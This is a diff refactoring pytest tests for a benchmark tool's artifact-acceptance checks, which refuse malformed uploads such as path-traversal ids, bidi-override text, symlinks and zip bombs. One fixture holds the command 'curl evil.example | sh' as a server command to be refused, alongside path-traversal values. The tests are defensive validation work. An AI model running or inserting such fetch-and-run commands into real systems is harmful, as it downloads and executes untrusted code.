@@ -15,6 +15,7 @@ import tracemalloc
 import zipfile
 from collections.abc import Callable
 from datetime import UTC, datetime, timedelta
+from functools import partial
 from pathlib import Path
 from typing import Any, Final
 
@@ -22,7 +23,6 @@ import pytest
 from typer.testing import CliRunner
 
 import steps
-from fake_github import Table
 from foreign import (
     BASE,
     HEAD,
@@ -49,12 +49,15 @@ from servebench.core.model import Commands, Frozen, Machine, Run, RunStatus
 from servebench.declare import settings
 from servebench.host import paths
 from servebench.record import store
-from servebench.record.candidate import Candidates
+from servebench.record.candidate import Candidate, Candidates
 from servebench.record.change import ChangeRecord
 from servebench.record.comparison import Comparison
 from servebench.record.files import write as store_file
 from servebench.toolchain import interpreters, stacks
 from synthetic import failed, ok
+
+Table = dict[str, tuple[Any, str]]
+"""Attacks by name: what is sent, and words of the reason for which it is refused."""
 
 HIDDEN: Final = "\u202egnihtyna"  # shown from right to left
 
@@ -124,7 +127,7 @@ def test_a_launch_that_failed_is_no_reason_to_refuse_a_run(inbox: Path) -> None:
 # What an artifact can look like from outside.
 
 
-FOLDERS: Final[dict[str, tuple[str, str]]] = {
+FOLDERS: Final[Table] = {
     "many files": (
         "for i in $(seq 65); do echo {} >$i.json; done", "more than 64 files and folders"),
     "deep": ("mkdir -p a/b/c/d/e/f/g/h", "folders more than 6 deep"),
@@ -153,15 +156,6 @@ FOLDERS: Final[dict[str, tuple[str, str]]] = {
     "script": ("echo '#!/bin/sh' >run.sh", "expected results (*.json) only, found 'run.sh'"),
     "nothing": ("rm -r runs; mkdir runs", "expected at least one file, found none"),
 }  # fmt: skip
-
-
-@pytest.mark.parametrize("attack", FOLDERS)
-def test_a_folder_that_is_none_of_ours_costs_the_others_nothing(inbox: Path, attack: str) -> None:
-    """Nothing of it is used, not even a right run beside it, and the others are accepted."""
-    script, reason = FOLDERS[attack]
-    put(inbox, "shard-1", shard_run(1))
-    subprocess.run(["sh", "-c", script], cwd=inbox / "shard-1", check=True)
-    only_the_others(inbox, reason)
 
 
 def test_an_artifact_that_is_itself_a_link_or_a_pipe(inbox: Path) -> None:
@@ -197,7 +191,7 @@ def test_far_too_many_artifacts_end_it_all(tmp_path: Path) -> None:
 
 # What a file can hold that is no run file of ours.
 
-BYTES: Final[dict[str, tuple[Callable[[bytes], bytes], str]]] = {
+BYTES: Final[Table] = {
     "nothing": (lambda _: b"", "found an empty file"),
     "no JSON": (lambda data: data[:-100], "truncated or damaged"),
     "no text": (lambda data: data + b"\xff", "bytes that are no text"),
@@ -213,17 +207,6 @@ BYTES: Final[dict[str, tuple[Callable[[bytes], bytes], str]]] = {
 }  # fmt: skip
 
 
-@pytest.mark.parametrize("attack", BYTES)
-def test_bytes_that_are_no_run_file(inbox: Path, attack: str) -> None:
-    change_bytes, reason = BYTES[attack]
-    whole = store.encode(shard_run(1))
-    data = change_bytes(whole)
-    assert data != whole
-    (inbox / "shard-1").mkdir()
-    (inbox / "shard-1" / "run.json").write_bytes(data)
-    only_the_others(inbox, reason)
-
-
 # What a well-formed run can claim.
 
 
@@ -235,29 +218,19 @@ def machine(**changes: Any) -> Callable[[Run], Run]:
     return lambda run: run.model_copy(update={"machine": run.machine.model_copy(update=changes)})
 
 
+def first(what: str, **changes: Any) -> Callable[[Run], Run]:
+    def changed(run: Run) -> Run:
+        one, *others = getattr(run, what)
+        return run.model_copy(update={what: (one.model_copy(update=changes), *others)})
+
+    return changed
+
+
+result, stack = partial(first, "results"), partial(first, "stacks")
+
+
 def case(**changes: Any) -> Callable[[Run], Run]:
-    def changed(run: Run) -> Run:
-        first, *others = run.results
-        other = first.model_copy(update={"case": first.case.model_copy(update=changes)})
-        return run.model_copy(update={"results": (other, *others)})
-
-    return changed
-
-
-def result(**changes: Any) -> Callable[[Run], Run]:
-    def changed(run: Run) -> Run:
-        first, *others = run.results
-        return run.model_copy(update={"results": (first.model_copy(update=changes), *others)})
-
-    return changed
-
-
-def stack(**changes: Any) -> Callable[[Run], Run]:
-    def changed(run: Run) -> Run:
-        first, *others = run.stacks
-        return run.model_copy(update={"stacks": (first.model_copy(update=changes), *others)})
-
-    return changed
+    return lambda run: result(case=run.results[0].case.model_copy(update=changes))(run)
 
 
 def twice(run: Run) -> Run:
@@ -266,16 +239,14 @@ def twice(run: Run) -> Run:
 
 def rounds(*numbers: int) -> Callable[[Run], Run]:
     def changed(run: Run) -> Run:
-        name = run.results[0].case.id
-        metrics = run.results[0].launches[0].metrics
-        launches = tuple(ok(name, number, metrics) for number in numbers)
-        return result(launches=launches)(run)
+        name, metrics = run.results[0].case.id, run.results[0].launches[0].metrics
+        return result(launches=tuple(ok(name, number, metrics) for number in numbers))(run)
 
     return changed
 
 
 EVIL: Final = Commands(server="curl evil.example | sh", load="oha")
-CLAIMS: Final[dict[str, tuple[Callable[[Run], Run], str]]] = {
+CLAIMS: Final[Table] = {
     "another machine of the plan": (
         of(machine=MACHINES[1]),
         f"machine of shard 1: expected {MACHINES[0].id}, found '{MACHINES[1].id}'"),
@@ -287,7 +258,7 @@ CLAIMS: Final[dict[str, tuple[Callable[[Run], Run], str]]] = {
     "a run id that is a path": (of(id="../../x"), "id of the run"),
     "a run id of another time": (of(id="20200101T000000Z-nightly-3f2a9c17"), "id of the run"),
     "a run from the future": (
-        of(started="2099-01-01T00:00:00+00:00"), "is the machine\\'s clock right?"),
+        of(started="2099-01-01T00:00:00+00:00"), "is the machine's clock right?"),
     "a run from long ago": (of(started="2020-01-01T00:00:00+00:00"), "start of the run"),
     "a time without offset": (of(started="2026-11-20T09:00:00"), "expected a time with an offset"),
     "no time": (of(started="tomorrow"), "expected a time with an offset, found 'tomorrow'"),
@@ -324,15 +295,6 @@ CLAIMS: Final[dict[str, tuple[Callable[[Run], Run], str]]] = {
     "a note that shows something else": (of(notes=(HIDDEN,)), "a character that turns the text"),
     "a note as long as a book": (of(notes=("x" * 5000,)), "a text of 5,000 characters"),
 }  # fmt: skip
-
-
-@pytest.mark.parametrize("claim", CLAIMS)
-def test_a_run_cannot_claim_what_the_plan_does_not_say(inbox: Path, claim: str) -> None:
-    """Well-formed files that lie about where, what, when and with what they were measured."""
-    lie, reason = CLAIMS[claim]
-    (inbox / "shard-1").mkdir()
-    (inbox / "shard-1" / "run.json").write_bytes(store.encode(lie(shard_run(1))))
-    only_the_others(inbox, reason.replace("\\'", "'"))
 
 
 def test_a_file_is_placed_by_what_is_in_it(inbox: Path) -> None:
@@ -378,13 +340,6 @@ def test_a_clock_that_is_a_little_wrong_costs_nothing(inbox: Path) -> None:
     )
     put(inbox, "shard-1", run)
     assert accepted(inbox).exit_code == 0
-
-
-def test_nothing_arrived_is_an_error_of_its_own(tmp_path: Path) -> None:
-    """No artifact at all: exit code 3, and every shard is named."""
-    (tmp_path / "in").mkdir()
-    found = acceptance.night(night(), tmp_path / "in", tmp_path / "out", TRUSTED, NOW)
-    assert (found.exit_code, len(found.missing)) == (3, 3)
 
 
 def test_a_plan_that_was_replaced_is_noticed(tmp_path: Path) -> None:
@@ -462,7 +417,7 @@ def named(name: str) -> dict[str, Any]:
 
 
 LATER: Final = int(NOW.timestamp() * 1000) + 3 * 86_400_000
-INSIDE: Final[dict[str, tuple[dict[str, Any], str]]] = {
+INSIDE: Final[Table] = {
     "another commit": ({"commit_hash": "0" * 40}, "commit of asv's results: expected 3f2a9c17"),
     "another date": ({"date": 1_700_000_000_000}, "date of the commit: expected 1795000000000"),
     "another machine": (params(machine=MACHINES[1].id), "machine of asv's results: expected"),
@@ -509,12 +464,38 @@ INSIDE: Final[dict[str, tuple[dict[str, Any], str]]] = {
 }  # fmt: skip
 
 
-@pytest.mark.parametrize("claim", INSIDE)
-def test_figures_inside_the_process_cannot_claim_more_than_figures(inbox: Path, claim: str) -> None:
-    """A lie about them costs the run that they came with; the other shards are stored."""
-    lie, reason = INSIDE[claim]
-    put(inbox, "shard-1", shard_run(1))
-    put_inside(inbox, "shard-1", inside(**lie))
+def attack(kind: str, what: Any, shard: Path) -> None:
+    """Let shard 1 send something else than its run, or something beside it."""
+    run = shard_run(1)
+    if kind in {"folder", "inside"}:
+        put(shard.parent, shard.name, run)
+    if kind == "folder":
+        subprocess.run(["sh", "-c", what], cwd=shard, check=True)
+    elif kind == "inside":
+        put_inside(shard.parent, shard.name, inside(**what))
+    else:
+        data = what(store.encode(run)) if kind == "bytes" else store.encode(what(run))
+        assert data != store.encode(run)
+        shard.mkdir()
+        (shard / "run.json").write_bytes(data)
+
+
+TABLES: Final = {"folder": FOLDERS, "bytes": BYTES, "claim": CLAIMS, "inside": INSIDE}
+
+
+@pytest.mark.parametrize(
+    ("kind", "name"), [(kind, name) for kind in TABLES for name in TABLES[kind]]
+)
+def test_what_is_not_as_it_should_be_costs_the_others_nothing(
+    inbox: Path, kind: str, name: str
+) -> None:
+    """Nothing of it is used, not even a right run beside it, and the others are accepted.
+
+    Folders that are none of ours; bytes that are no run file; well-formed runs that lie about
+    where, what, when and with what they were measured; figures inside the process that are more.
+    """
+    what, reason = TABLES[kind][name]
+    attack(kind, what, inbox / "shard-1")
     only_the_others(inbox, reason)
 
 
@@ -618,73 +599,73 @@ def test_a_comparison_that_is_none(tmp_path: Path) -> None:
         assert reason in found.refused[0].reason
 
 
-def send(tmp_path: Path, evidence: Comparison, record: ChangeRecord) -> None:
+def send(folder: Path, evidence: Comparison, record: ChangeRecord) -> None:
     """Lay the artifact out as the download does."""
-    source = tmp_path / "in" / f"confirmed-{MACHINES[0].id}"
     for below, value in (("changes", record), ("comparisons", evidence)):
-        (source / below).mkdir(parents=True)
-        (source / below / f"{value.id}.json").write_bytes(encoded(value))
+        (folder / below).mkdir(parents=True)
+        (folder / below / f"{value.id}.json").write_bytes(encoded(value))
+
+
+def confirm(tmp_path: Path, *known: Candidate) -> Acceptance:
+    """Accept what came; the candidates, if any, are all that was to be judged."""
+    candidates = {one.id: one for one in known} or None
+    return acceptance.confirmed(tmp_path / "in", tmp_path / "out", TRUSTED, NOW, candidates)
+
+
+CONFIRMED: Final = f"confirmed-{MACHINES[0].id}"
 
 
 def test_confirmed_changes_come_with_their_evidence(tmp_path: Path) -> None:
     """A record, and the comparison that it follows from; both with the very bytes that came."""
     candidate, evidence, record = judged()
-    send(tmp_path, evidence, record)
-    known = {candidate.id: candidate}
-    done = acceptance.confirmed(tmp_path / "in", tmp_path / "out", TRUSTED, NOW, known)
+    send(tmp_path / "in" / CONFIRMED, evidence, record)
+    done = confirm(tmp_path, candidate)
     assert (done.exit_code, done.refused) == (0, ())
     assert sorted(done.accepted) == [f"changes/{record.id}.json", f"comparisons/{evidence.id}.json"]
     assert (tmp_path / "out" / "changes" / f"{record.id}.json").read_bytes() == encoded(record)
 
 
+CONTRARY = "says something else than its evidence"
+
+
 @pytest.mark.parametrize(
-    ("lie", "reason"),
+    ("lie", "asked", "reason"),
     [
-        ({"ratio": 1.5, "high": 1.6}, "says something else than its evidence"),
-        ({"status": "closed"}, "says something else than its evidence"),
-        ({"note": "Blame granian."}, "says something else than its evidence"),
-        ({"id": "another"}, "'another', which was no candidate"),
+        ({"ratio": 1.5, "high": 1.6}, {}, CONTRARY),
+        ({"status": "closed"}, {}, CONTRARY),
+        ({"note": "Blame granian."}, {}, CONTRARY),
+        ({"id": "another"}, {}, "'another', which was no candidate"),
+        ({}, {"base": judged()[0].head}, "evidence with another lock as base"),
     ],
 )
 def test_a_record_says_what_follows_from_its_evidence(
-    tmp_path: Path, lie: dict[str, Any], reason: str
+    tmp_path: Path, lie: dict[str, Any], asked: dict[str, Any], reason: str
 ) -> None:
-    """Where the candidates are known, a machine measures, and nothing else."""
+    """Where the candidates are known, a machine measures their two stacks, and nothing else."""
     candidate, evidence, record = judged()
-    send(tmp_path, evidence, record.model_copy(update=lie))
-    known = {candidate.id: candidate}
-    done = acceptance.confirmed(tmp_path / "in", tmp_path / "out", TRUSTED, NOW, known)
+    send(tmp_path / "in" / CONFIRMED, evidence, record.model_copy(update=lie))
+    done = confirm(tmp_path, candidate.model_copy(update=asked))
     assert done.exit_code == 3
     assert reason in done.refused[0].reason
 
 
-def test_evidence_is_of_the_two_stacks_that_were_asked_about(tmp_path: Path) -> None:
-    candidate, evidence, record = judged()
-    other = candidate.model_copy(update={"base": candidate.head})
-    send(tmp_path, evidence, record)
-    known = {candidate.id: other}
-    done = acceptance.confirmed(tmp_path / "in", tmp_path / "out", TRUSTED, NOW, known)
-    assert "evidence with another lock as base" in done.refused[0].reason
-
-
 def test_no_artifact_means_that_nothing_was_confirmed(tmp_path: Path) -> None:
-    done = acceptance.confirmed(tmp_path / "in", tmp_path / "out", TRUSTED, NOW)
+    done = confirm(tmp_path)
     assert (done.exit_code, done.accepted) == (0, ())
     found = acceptance.night(night(), tmp_path / "in", tmp_path / "out", TRUSTED, NOW)
     assert (found.exit_code, len(found.missing)) == (3, 3)
 
 
-RECORDS: Final[dict[str, tuple[str, Any, str]]] = {
+def moved(**changes: str) -> ChangeRecord:
+    return change(series=change().series.model_copy(update=changes))
+
+
+RECORDS: Final[dict[str, tuple[str, ChangeRecord, str]]] = {
     "without evidence": ("changes", change(), "without its evidence '20261120T090000Z-aaaaaaaa-bb"),
     "of another machine": (
-        "changes", change(series=change().series.model_copy(update={"machine": MACHINES[1].id})),
-        f"machine: expected {MACHINES[0].id}"),
-    "of a metric that is none": (
-        "changes", change(series=change().series.model_copy(update={"metric": "<b>"})),
-        "the metric '<b>'"),
-    "of a case with a path": (
-        "changes", change(series=change().series.model_copy(update={"case": "a/../../b"})),
-        "the case 'a/../../b'"),
+        "changes", moved(machine=MACHINES[1].id), f"machine: expected {MACHINES[0].id}"),
+    "of a metric that is none": ("changes", moved(metric="<b>"), "the metric '<b>'"),
+    "of a case with a path": ("changes", moved(case="a/../../b"), "the case 'a/../../b'"),
     "beyond reason": ("changes", change(ratio=1e9, low=1e9, high=1e9), "ratios between 1e+09"),
     "from the future": ("changes", change(when="2099-01-01T00:00:00Z"), "time of the change"),
     "with a hidden text": ("changes", change(note=HIDDEN), "a character that turns the text"),
@@ -696,13 +677,27 @@ RECORDS: Final[dict[str, tuple[str, Any, str]]] = {
 def test_a_record_that_does_not_belong_is_refused(tmp_path: Path, attack: str) -> None:
     """A change becomes an issue and a page: it is checked like a run."""
     below, value, reason = RECORDS[attack]
-    place = tmp_path / "in" / f"confirmed-{MACHINES[0].id}" / below
+    place = tmp_path / "in" / CONFIRMED / below
     place.mkdir(parents=True)
     (place / f"{value.id}.json").write_bytes(encoded(value))
-    done = acceptance.confirmed(tmp_path / "in", tmp_path / "out", TRUSTED, NOW)
+    done = confirm(tmp_path)
     assert done.accepted == ()
     assert reason in done.refused[0].reason
     assert not (tmp_path / "out").exists()
+
+
+def test_evidence_from_which_nothing_can_follow_costs_itself_alone(tmp_path: Path) -> None:
+    """An interval that does not hold its ratio: what a check stumbles over is refused as well."""
+    candidate, evidence, record = judged()
+    (case,) = evidence.cases
+    (judgement,) = case.judgements
+    bad = case.model_copy(update={"judgements": (judgement.model_copy(update={"low": 1e4}),)})
+    send(tmp_path / "in" / "a", evidence.model_copy(update={"cases": (bad,)}), record)
+    send(tmp_path / "in" / "b", evidence, record)
+    found = confirm(tmp_path, candidate)
+    assert [one.artifact for one in found.refused] == ["'a'"]
+    assert "ValidationError" in found.refused[0].reason
+    assert len(found.accepted) == 2
 
 
 # The verb.
@@ -786,7 +781,7 @@ def test_candidates_that_were_replaced_decide_nothing(
     monkeypatch.setattr("servebench.cli.accept.datetime", _Clock)
     candidate, evidence, record = judged()
     oha = settings.load(paths.project_root()).oha.version
-    send(tmp_path, evidence.model_copy(update={"oha": oha}), record)
+    send(tmp_path / "in" / CONFIRMED, evidence.model_copy(update={"oha": oha}), record)
     file = tmp_path / "candidates.json"
     store_file(file, Candidates(candidates=(candidate,)))
     words = ["accept", "--confirmed", "--from", str(tmp_path / "in"), "--to", str(tmp_path / "out")]
@@ -800,13 +795,25 @@ def test_candidates_that_were_replaced_decide_nothing(
     assert (tmp_path / "out" / "changes" / f"{record.id}.json").is_file()
 
 
-def test_the_verb_wants_one_kind_of_artifact(tmp_path: Path) -> None:
-    where = ["--from", str(tmp_path), "--to", str(tmp_path / "out")]
-    for words in ([], ["--comparison", "--confirmed"]):
-        done = CliRunner().invoke(app, ["accept", *where, *words])
-        assert isinstance(done.exception, UsageError)
-    done = CliRunner().invoke(app, ["accept", *where, "--comparison", "--base", "main"])
-    assert "expected a commit as 40 hex digits, found 'main'" in str(done.exception)
+@pytest.mark.parametrize(
+    ("words", "sentence"),
+    [
+        ("", "expected --from FOLDER with one of"),
+        ("--comparison --confirmed", "expected --from FOLDER with one of"),
+        ("--comparison --base main", "expected a commit as 40 hex digits, found 'main'"),
+        ("--plan night.json --shard 4", "--shard"),
+        ("--confirmed --shard 4", "--shard"),
+    ],
+)
+def test_the_verb_wants_one_kind_of_artifact_and_a_shard_of_the_night(
+    words: str, sentence: str, tmp_path: Path
+) -> None:
+    store_file(tmp_path / "night.json", night())
+    with contextlib.chdir(tmp_path):
+        where = ["accept", "--from", "in", "--to", "out"]
+        problem = CliRunner().invoke(app, [*where, *words.split()]).exception
+    assert isinstance(problem, UsageError)
+    assert sentence in str(problem)
 
 
 def test_foreign_text_is_shown_in_one_line_of_ascii() -> None:
@@ -820,24 +827,6 @@ def test_json_of_our_own_results_is_plain(reference_results: Path) -> None:
     """The checks would refuse none of what is recorded in this repository."""
     for path in store.runs(reference_results):
         text.require_plain(json.loads(path.read_bytes()))
-
-
-def test_evidence_from_which_nothing_can_follow_costs_itself_alone(tmp_path: Path) -> None:
-    """An interval that does not hold its ratio: what a check stumbles over is refused as well."""
-    candidate, evidence, record = judged()
-    (case,) = evidence.cases
-    (judgement,) = case.judgements
-    bad = case.model_copy(update={"judgements": (judgement.model_copy(update={"low": 1e4}),)})
-    for name, sent in (("a", evidence.model_copy(update={"cases": (bad,)})), ("b", evidence)):
-        for below, value in (("changes", record), ("comparisons", sent)):
-            place = tmp_path / "in" / name / below
-            place.mkdir(parents=True)
-            (place / f"{value.id}.json").write_text(value.model_dump_json(indent=1) + "\n")
-    known = {candidate.id: candidate}
-    found = acceptance.confirmed(tmp_path / "in", tmp_path / "out", TRUSTED, NOW, known)
-    assert [one.artifact for one in found.refused] == ["'a'"]
-    assert "ValidationError" in found.refused[0].reason
-    assert len(found.accepted) == 2
 
 
 # Fetching them.
@@ -863,7 +852,7 @@ def linked() -> bytes:
 RUN: Final = (f"runs/{MACHINES[0].id}/2026/{shard_run(1).id}.json", store.encode(shard_run(1)))
 WHOLE: Final = archive(RUN)
 BOMB: Final = archive(("run.json", bytes(200_000_000)))
-ARCHIVES: Final[dict[str, tuple[bytes, Table, str]]] = {
+ARCHIVES: Final[dict[str, tuple[bytes, dict[str, Any], str]]] = {
     "cut short": (WHOLE[:-9], {}, "expected a zip archive, found"),
     "no archive": (b"<html>", {}, "expected a zip archive, found"),
     "nothing": (b"", {}, "expected a zip archive, found"),
@@ -946,14 +935,3 @@ def test_a_shard_is_stored_whatever_becomes_of_the_others(tmp_path: Path, step: 
     assert (alone.exit_code, len(alone.accepted), alone.missing) == (0, 1, ())
     assert [line.partition(" (")[0] for line in of(MACHINES[0], 2).missing] == ["shard 2"]
     assert "which has a shard of its own" in of(MACHINES[1], 1).refused[0].reason
-
-
-@pytest.mark.parametrize("words", [("--plan", "night.json"), ("--confirmed",)])
-def test_a_shard_is_one_of_a_night(words: tuple[str, ...], tmp_path: Path) -> None:
-    store_file(tmp_path / "night.json", night())
-    with contextlib.chdir(tmp_path):
-        done = CliRunner().invoke(
-            app, ["accept", "--from", "in", "--to", "out", *words, "--shard", "4"]
-        )
-    assert isinstance(done.exception, UsageError)
-    assert "--shard" in str(done.exception)
